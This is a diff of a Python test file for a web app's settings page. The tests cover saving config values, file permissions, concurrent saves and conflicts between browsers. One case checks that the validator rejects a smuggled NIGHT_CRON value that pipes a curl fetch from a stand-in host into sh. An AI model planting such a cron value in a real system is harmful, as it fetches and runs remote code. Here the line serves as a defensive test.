@@ -8,6 +8,7 @@ from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from typing import get_args
 
+import httpx
 import pytest
 
 from dispatcher.features.web.pages.settings import editable
@@ -34,16 +35,16 @@ def test_a_setting_is_changed_in_the_file_of_its_owner_after_the_programs_own_ch
         assert "hmem init does that" in written and "restart needed" in written and 'value="1200"' in written
         assert file.read_text() == '# mine\nMEMORY_TOKENS = "1200"  # small # model\n'
         assert file.stat().st_mode & 0o777 == 0o640
-        owner.post("/settings/save", name="CHAT_TIMEZONE", was="UTC", value="Europe/Rome")
+        owner.post("/settings/save", name="CHAT_TIMEZONE", was="", value="Europe/Rome")
         before = file.read_bytes()
         late = owner.post("/settings/save", 400, name="MEMORY_TOKENS", was="900", value="700")
         assert "MEMORY_TOKENS has become 1200" in late and 'value="700"' in late
         for name, was, value, sentence in (
             ("MEMORY_TOKENS", "1200", "many", "it must be a whole number"),
             ("CHAT_TIMEZONE", "Europe/Rome", "Nowhere", "write one like Europe/Berlin"),
-            ("NIGHT_CRON", "0 3 * * *", "x\ny", "cannot be seen"),
-            ("NIGHT_CRON", "0 3 * * *", "* * * * * curl http://x|sh #", "write one like 0 3 * * *"),
-            ("WRITES", "facts", "w" * 300, "too long"),
+            ("NIGHT_CRON", "", "x\ny", "cannot be seen"),
+            ("NIGHT_CRON", "", "* * * * * curl http://x|sh #", "write one like 0 3 * * *"),
+            ("WRITES", "", "w" * 300, "too long"),
         ):
             refused = owner.post("/settings/save", 400, name=name, was=was, value=value)
             assert name in refused and sentence in refused
@@ -62,22 +63,49 @@ def test_saves_at_once_are_all_kept_and_link_and_group_of_the_file_too(light: Wo
         os.chown(real, -1, 5000)
     group, light.environment["HMEM_CONFIG"] = real.stat().st_gid, str(link)
     wanted = {
-        "MEMORY_TOKENS": ("1500", "300"),
-        "SESSION_TOKENS": ("50000", "20001"),
-        "RELEASES_KEPT": ("5", "7"),
-        "CHAT_TIMEZONE": ("UTC", "Europe/Rome"),
-        "NIGHT_CRON": ("0 3 * * *", "5 4 * * *"),
+        "MEMORY_TOKENS": "300",
+        "SESSION_TOKENS": "20001",
+        "RELEASES_KEPT": "7",
+        "CHAT_TIMEZONE": "Europe/Rome",
+        "NIGHT_CRON": "5 4 * * *",
     }
     with serving(light) as site, ThreadPoolExecutor(5) as several:
         owner = site.visitor()
         owner.get("/settings")
 
         def save(name: str) -> str:
-            return owner.post("/settings/save", name=name, was=wanted[name][0], value=wanted[name][1])
+            return owner.post("/settings/save", name=name, was="", value=wanted[name])
 
         list(several.map(save, wanted))
-    assert tomllib.loads(real.read_text()) == {name: value for name, (_, value) in wanted.items()}
+    assert tomllib.loads(real.read_text()) == wanted
     assert (link.is_symlink(), real.stat().st_gid, real.stat().st_mode & 0o777) == (True, group, 0o640)
+
+
+def test_of_three_browsers_that_save_one_setting_one_is_written_and_two_are_told(light: World, tmp_path: Path) -> None:
+    file = tmp_path / "hmem.toml"
+    file.write_text("RELEASES_KEPT = 5\n")
+    light.environment["HMEM_CONFIG"] = str(file)
+    with serving(light) as site, ThreadPoolExecutor(3) as several:
+        people = {value: site.visitor() for value in ("700", "800", "900")}
+        for person in people.values():
+            person.get("/settings")
+
+        def save(value: str) -> httpx.Response:
+            form = {"form-token": people[value].token, "name": "MEMORY_TOKENS", "was": "", "value": value}
+            return people[value].client.post("/settings/save", data=form)
+
+        answers = dict(zip(people, several.map(save, people), strict=True))
+        written = tomllib.loads(file.read_text())["MEMORY_TOKENS"]
+        assert answers.pop(written).status_code == 200
+        for value, answer in answers.items():
+            assert answer.status_code == 400
+            assert f"MEMORY_TOKENS has become {written} since" in answer.text and f'value="{value}"' in answer.text
+        # What somebody is writing by hand is not overwritten either, though no program would start with it.
+        file.write_text('MEMORY_TOKENS = "1 000"\n')
+        late = people[written].post("/settings/save", 400, name="MEMORY_TOKENS", was=written, value="1100")
+        assert "MEMORY_TOKENS has become 1 000 since" in late and 'name="was" value="1 000"' in late
+        people[written].post("/settings/save", name="MEMORY_TOKENS", was="1 000", value="1000")
+    assert tomllib.loads(file.read_text()) == {"MEMORY_TOKENS": "1000"}
 
 
 @pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
